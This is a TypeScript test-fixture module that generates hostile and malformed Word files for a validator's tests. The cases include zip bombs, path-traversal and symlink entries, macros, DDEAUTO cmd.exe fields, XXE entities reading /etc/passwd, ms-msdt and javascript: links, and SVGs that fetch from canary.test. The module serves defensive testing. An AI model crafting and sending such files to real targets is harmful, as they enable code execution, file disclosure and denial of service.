import { constants, deflateRawSync, gzipSync } from 'node:zlib';
import { buildDocx, docxEntries, type DocxSpec, type Rel } from './build-docx.ts';
import { buildXlsx } from './build-xlsx.ts';
import { hostileLinks } from './hostile-links.ts';
import { makePng } from './make-png.ts';
import { rawZip, type RawEntry } from './raw-zip.ts';
import { BODY } from './template-case.ts';
import { field, fieldChar, instruction, p, paragraph, r, run } from './word-markup.ts';

export type HostileFile = { name: string; code: string; file: () => Buffer };

const MIB = 1024 * 1024;
const OLE2 = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
const ole2 = (stream: string) => Buffer.concat([OLE2, Buffer.alloc(504), Buffer.from(stream, 'utf16le')]);

const document = (name: string, code: string, spec: DocxSpec): HostileFile => ({
  name,
  code,
  file: () => buildDocx(spec),
});
const entries = (name: string, code: string, make: () => RawEntry[]): HostileFile => ({
  name,
  code,
  file: () => rawZip({ entries: make() }),
});
const withBody = (change: Partial<RawEntry>) =>
  docxEntries({ body: p('x') }).map((entry) => (entry.name === BODY ? { ...entry, ...change } : entry));
const withExtra = (...extra: RawEntry[]) => [...docxEntries({ body: p('x') }), ...extra];
const related = (rel: Omit<Rel, 'id'>, content?: string | Buffer): DocxSpec => ({
  body: p('x'),
  relationships: [{ id: 'rIdEvil', ...rel }],
  ...(content !== undefined && { parts: [{ name: `word/${rel.target}`, content }] }),
  defaults: { bin: 'application/octet-stream', png: 'image/png', jpeg: 'image/jpeg', svg: 'image/svg+xml' },
});
const external = (type: string, target: string) => related({ type, target, external: true });
const media = (name: string, content: string | Buffer) =>
  related({ type: 'image', target: `media/${name}` }, content);
const svg = (content: string) =>
  media(
    'a.svg',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${content}</svg>`,
  );
const withDoctype = (xml: string) =>
  `<?xml version="1.0"?><!DOCTYPE d [${xml}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>`;
/** The same block over and over: compressing all of them took seconds. */
const zeros = (bytes: number) => {
  const block = deflateRawSync(Buffer.alloc(MIB), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([
    ...Array.from({ length: bytes / MIB }, () => block),
    deflateRawSync(Buffer.alloc(0)),
  ]);
};
const fortyFiveMib = zeros(45 * MIB);

/** Files that are no Word documents, or damaged ones. */
export const brokenFiles: HostileFile[] = [
  { name: 'an empty file', code: 'empty', file: () => Buffer.alloc(0) },
  { name: 'a text file', code: 'not-office', file: () => Buffer.from('Hello') },
  { name: 'a web page', code: 'not-office', file: () => Buffer.from('<html><body>Hi</body></html>') },
  { name: 'an RTF document', code: 'rtf', file: () => Buffer.from('{\\rtf1 Hi}') },
  {
    name: 'a flat OpenDocument',
    code: 'not-office',
    file: () => Buffer.from('<?xml version="1.0"?><office:document/>'),
  },
  { name: 'a PDF', code: 'pdf', file: () => Buffer.from('%PDF-1.7') },
  { name: 'a document of Word 97', code: 'old-word', file: () => ole2('WordDocument') },
  { name: 'a document with a password', code: 'password', file: () => ole2('EncryptedPackage') },
  entries('an OpenDocument text', 'open-document', () => [
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 },
    { name: 'content.xml', content: '<x/>' },
  ]),
  entries('a Pages document', 'pages', () => [{ name: 'Index/Document.iwa', content: 'x' }]),
  { name: 'a workbook called .docx', code: 'not-word', file: () => buildXlsx() },
  document('a Word template', 'word-template', {
    mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
  }),
  entries('a package without a main part', 'not-word', () =>
    docxEntries().filter(({ name }) => name !== '_rels/.rels'),
  ),
  entries('a package whose main part is a web page', 'not-word', () =>
    withBody({ content: '<html xmlns="http://www.w3.org/1999/xhtml"/>' }),
  ),
  entries('a package whose main part is a flat OpenDocument', 'not-word', () =>
    withBody({
      content: '<o:document xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
    }),
  ),
  document('a package with two main parts', 'not-word', {
    packageRelationships: [{ id: 'rId9', type: 'officeDocument', target: 'word/other.xml' }],
  }),
  entries('a package whose main part is missing', 'not-word', () =>
    docxEntries().filter(({ name }) => name !== BODY),
  ),
  { name: 'a truncated file', code: 'truncated', file: () => buildDocx({ body: p('x') }).subarray(0, 900) },
  {
    name: 'bytes after the archive',
    code: 'truncated',
    file: () => rawZip({ entries: docxEntries(), suffix: Buffer.from('#!/bin/sh') }),
  },
  {
    name: 'bytes before the archive',
    code: 'not-office',
    file: () => rawZip({ entries: docxEntries(), prefix: Buffer.from('MZ program') }),
  },
  {
    name: 'a file above the limit',
    code: 'too-large',
    file: () => Buffer.concat([buildDocx(), Buffer.alloc(20 * MIB)]),
  },
  entries('a part whose checksum is wrong', 'damaged', () => withBody({ crc: 1 })),
  entries('a part that is no compressed data', 'damaged', () =>
    withBody({ packed: Buffer.from('\xff\xff\xff garbage') }),
  ),
  entries('a part that is not well-formed', 'bad-xml', () =>
    withBody({ content: '<w:document xmlns:w="x"><w:body></w:document>' }),
  ),
  entries('a part with a control character', 'bad-xml', () => withBody({ content: '<x>\u000b</x>' })),
  entries('a part that claims to be XML 1.1, to hold a control character', 'bad-xml', () =>
    withBody({ content: '<?xml version="1.1"?><x>&#1;</x>' }),
  ),
  entries('a part with an undeclared prefix', 'bad-xml', () => withBody({ content: '<w:document/>' })),
  entries('a part that is empty', 'bad-xml', () => withBody({ content: '' })),
  entries('a part in another encoding', 'encoding', () =>
    withBody({ content: '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
  ),
  entries('a part with bytes that are no UTF-8', 'encoding', () =>
    withBody({ content: Buffer.from('<x>\xff</x>', 'latin1') }),
  ),
];

/** Archives that lie. */
export const lyingArchives: HostileFile[] = [
  entries('a part that inflates to 300 MB', 'inflates-too-much', () =>
    withBody({ content: '', packed: zeros(300 * MIB), claimedSize: 300 * MIB }),
  ),
  entries('a part that claims 1 KB and holds 60 MB', 'size-lie', () =>
    withBody({ packed: zeros(60 * MIB), claimedSize: 1024 }),
  ),
  entries('a part that claims more than it holds', 'size-lie', () => withBody({ claimedSize: 4096 })),
  entries('a stored part of a false size', 'size-lie', () => withBody({ method: 0, claimedSize: 10 })),
  entries('five parts of 45 MB', 'inflates-too-much', () =>
    withExtra(
      ...[1, 2, 3, 4, 5].map((number) => ({
        name: `word/media/${number}.bin`,
        content: '',
        packed: fortyFiveMib,
        claimedSize: 45 * MIB,
      })),
    ),
  ),
  entries('more XML than can be checked, called something else', 'too-much-xml', () =>
    withExtra({ name: 'word/a.bin', content: `<a>${'<b/>'.repeat(4 * MIB)}</a>` }),
  ),
  entries('more XML than can be checked', 'too-much-xml', () =>
    withExtra({ name: 'word/a.xml', content: `<a>${'<b/>'.repeat(5 * MIB)}</a>` }),
  ),
  entries('encrypted parts', 'encrypted', () => withBody({ flags: 1 })),
  entries('an unknown compression', 'compression', () => withBody({ method: 12 })),
  entries('the same part twice', 'entry-twice', () =>
    withExtra({ name: 'WORD/document.xml', content: '<x/>' }),
  ),
  entries('a local name that differs', 'damaged', () => withBody({ localName: 'word/dokument.xml' })),
  entries('parts that share their bytes', 'damaged', () =>
    withExtra({ name: '[Content_Types].xml', content: '<x/>', claimedOffset: 0 }),
  ),
  entries('more than 2000 parts', 'too-many-entries', () =>
    withExtra(...Array.from({ length: 2001 }, (_, number) => ({ name: `a/${number}.txt`, content: '' }))),
  ),
  ...['../../x', '/etc/x', 'C:\\x', 'word\\x.xml', 'a\0b', 'a//b', './a', 'word/\u0007.xml'].map((name) =>
    entries(`a part called ${JSON.stringify(name)}`, 'entry-name', () => withExtra({ name, content: 'x' })),
  ),
  entries('a symbolic link', 'entry-name', () =>
    withExtra({ name: 'word/link', content: '/etc/passwd', externalAttributes: 0o120777 * 65_536 }),
  ),
];

/** Documents that do more than hold text. */
export const activeFiles: HostileFile[] = [
  document('a document with macros', 'macros', {
    mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
  }),
  document(
    'macros in an ordinary document',
    'macros',
    related(
      { type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' },
      OLE2,
    ),
  ),
  document('macros that no relationship names', 'macros', {
    body: p('x'),
    parts: [{ name: 'word/v.bin', content: 'x', type: 'application/vnd.ms-office.vbaProject' }],
  }),
  document('an OLE object', 'ole-object', related({ type: 'oleObject', target: 'embeddings/o.bin' }, OLE2)),
  document(
    'an OLE object that calls itself a font',
    'ole-object',
    related({ type: 'font', target: 'fonts/o.bin' }, OLE2),
  ),
  document('an OLE object in the markup', 'ole-object', {
    body: paragraph(run('<w:object><o:OLEObject Type="Embed"/></w:object>')),
  }),
  document('an ActiveX control', 'activex', related({ type: 'control', target: 'activeX/a.xml' }, '<x/>')),
  document('an ActiveX control in the markup', 'activex', { body: paragraph(run('<w:control r:id="x"/>')) }),
  document(
    'a program',
    'embedded-file',
    related({ type: 'package', target: 'embeddings/o.bin' }, Buffer.from('MZ\x90\0')),
  ),
  document(
    'another document inside',
    'embedded-file',
    related({ type: 'package', target: 'embeddings/o.bin' }, buildDocx()),
  ),
  document('a workbook with macros inside', 'macros', {
    ...related(
      { type: 'package', target: 'embeddings/o.xlsx' },
      buildXlsx({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
    ),
    defaults: { xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
  }),
  document(
    'an imported web page',
    'alternative-chunk',
    related({ type: 'aFChunk', target: 'a.html' }, '<html/>'),
  ),
  document('an imported web page in the markup', 'alternative-chunk', { body: '<w:altChunk r:id="x"/>' }),
  document('a sub-document', 'sub-document', external('subDocument', 'file:///other.docx')),
  document('a sub-document in the markup', 'sub-document', { body: '<w:subDoc r:id="x"/>' }),
  ...['http://evil.test/t.dotm', '\\\\host\\share\\t.dotm', 'file://host/t.dotm', 'file:////host/t.dotm'].map(
    (target) =>
      document(`a template at ${target}`, 'attached-template', {
        partRelationships: {
          'word/settings.xml': [{ id: 'r1', type: 'attachedTemplate', target, external: true }],
        },
      }),
  ),
  document('a template that calls itself a part', 'attached-template', {
    partRelationships: { 'word/settings.xml': [{ id: 'r1', type: 'attachedTemplate', target: 't.dotm' }] },
  }),
  document('a mail merge', 'mail-merge', {
    settings: '<w:mailMerge><w:query w:val="SELECT *"/></w:mailMerge>',
  }),
  ...[
    'http://canary.test/x.png',
    'file:///etc/x.png',
    '\\\\host\\share\\x.png',
    '/etc/x.png',
    '../../../x.png',
  ].map((target) => document(`a picture from ${target}`, 'external-picture', external('image', target))),
  document(
    'a picture from the network that is not called external',
    'external-picture',
    related({ type: 'image', target: 'http://canary.test/x.png' }),
  ),
  document('a picture of an older Word from the network', 'external-picture', {
    body: paragraph(run('<w:pict><v:shape><v:imagedata src="http://canary.test/x.png"/></v:shape></w:pict>')),
  }),
  document('a sound from the network', 'external-link', external('audio', 'http://canary.test/x.mp3')),
  document('a link that runs a script', 'dangerous-link', external('hyperlink', ' Java%73cript:alert(1)')),
  document('a field that links to a script', 'dangerous-link', {
    body: paragraph(field([' HYPERLINK "java', 'script:alert(1)"'], r('x'))),
  }),
  document('a link that runs a program', 'dangerous-link', external('hyperlink', 'ms-msdt:/id x')),
  ...hostileLinks.map(({ name, code, spec }) => document(name, code, spec)),
  document(
    'bytes of an object that call themselves a picture',
    'unexpected-part',
    related({ type: 'image', target: 'media/o.bin' }, Buffer.from('\x01\x05\0\0\x02\0\0\0Package')),
  ),
  document(
    'bytes of an object that call themselves styles',
    'unexpected-part',
    related({ type: 'stylesWithEffects', target: 'o.bin' }, Buffer.from('\x01\x05\0\0')),
  ),
  document(
    'a web page that calls itself a picture',
    'unexpected-part',
    media('a.svg', '<html xmlns="http://www.w3.org/1999/xhtml"/>'),
  ),
  document(
    'any bytes that call themselves a font',
    'unexpected-part',
    related({ type: 'font', target: 'fonts/o.bin' }, 'x'),
  ),
  ...[
    'DDEAUTO c:\\windows\\cmd.exe "/k"',
    ' dde x',
    'INCLUDEPICTURE "http://canary.test/x"',
    'INCLUDETEXT "/etc/passwd"',
    'LINK Excel.Sheet "a"',
    'IMPORT x',
    'RD x',
  ].map((code) => document(`a field ${code}`, 'dangerous-field', { body: paragraph(field([code], r('x'))) })),
  document('a field whose name is scattered over runs', 'dangerous-field', {
    body: paragraph(field([' DD', 'EAU', 'TO x'], r('x'))),
  }),
  document('a field whose name another field makes', 'dangerous-field', {
    body: paragraph(
      fieldChar('begin') + field(['QUOTE 68 68 69'], r('DDE')) + instruction(' x') + fieldChar('end'),
    ),
  }),
  document('a simple field', 'dangerous-field', {
    body: paragraph(`<w:fldSimple w:instr="DDE x">${r('x')}</w:fldSimple>`),
  }),
  document('a field that never ends', 'dangerous-field', {
    body: paragraph(fieldChar('begin') + instruction('DDE x')),
  }),
  entries('an external entity', 'doctype', () =>
    withBody({ content: withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">') }),
  ),
  entries('entities that multiply', 'doctype', () =>
    withBody({ content: withDoctype('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">') }),
  ),
  document('a document type in any part', 'doctype', {
    parts: [{ name: 'customXml/item1.xml', content: '<!DOCTYPE x><x/>' }],
  }),
  document('XML nested 10 000 deep', 'too-deep', {
    body: '<w:sdt>'.repeat(10_000) + '</w:sdt>'.repeat(10_000),
  }),
  document('tables nested 60 deep', 'too-deep', {
    body: '<w:tbl><w:tr><w:tc>'.repeat(60) + '</w:tc></w:tr></w:tbl>'.repeat(60),
  }),
  document('20 000 page breaks', 'too-many-pages', {
    body: paragraph(run('<w:br w:type="page"/>'.repeat(20_000))),
  }),
  document('20 000 paragraphs on pages of their own', 'too-many-pages', {
    body: paragraph('', '<w:pageBreakBefore/>').repeat(20_000),
  }),
  document(
    'a PNG of 12 000 by 12 000',
    'picture-too-large',
    media('a.png', makePng(1, 1, { width: 12_000, height: 12_000 })),
  ),
  document(
    'a JPEG of 12 000 by 12 000',
    'picture-too-large',
    media(
      'a.jpeg',
      Buffer.from('ffd8ffe000104a46494600010100000100010000ffc000112ee02ee003012200021101031101', 'hex'),
    ),
  ),
  document(
    'a GIF of 60 000 by 60 000',
    'picture-too-large',
    media('a.png', Buffer.from('47494638396160ea60ea000000', 'hex')),
  ),
  document('a PostScript picture', 'picture-format', media('a.png', '%!PS-Adobe-3.0 EPSF')),
  document('a compressed vector picture', 'picture-format', media('a.svg.png', gzipSync('<svg/>'))),
  document(
    'a vector picture that reads a file',
    'svg-reference',
    svg('<image xlink:href="file:///etc/passwd"/>'),
  ),
  document(
    'a vector picture called .png that reads a file',
    'svg-reference',
    media('a.png', '<svg xmlns="http://www.w3.org/2000/svg"><use href="http://canary.test/#a"/></svg>'),
  ),
  document(
    'a vector picture with a style from elsewhere',
    'svg-reference',
    svg('<style>@import "http://canary.test/a.css";</style>'),
  ),
  document(
    'a vector picture filled from elsewhere',
    'svg-reference',
    svg('<rect fill="url(http://canary.test/#a)"/>'),
  ),
  document('a vector picture with a script', 'svg-reference', svg('<script>1</script>')),
  document('a vector picture that acts when loaded', 'svg-reference', svg('<rect onload="1"/>')),
  document(
    'a vector picture with a style sheet',
    'svg-reference',
    media(
      'a.svg',
      '<?xml-stylesheet href="http://canary.test/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
  ),
];
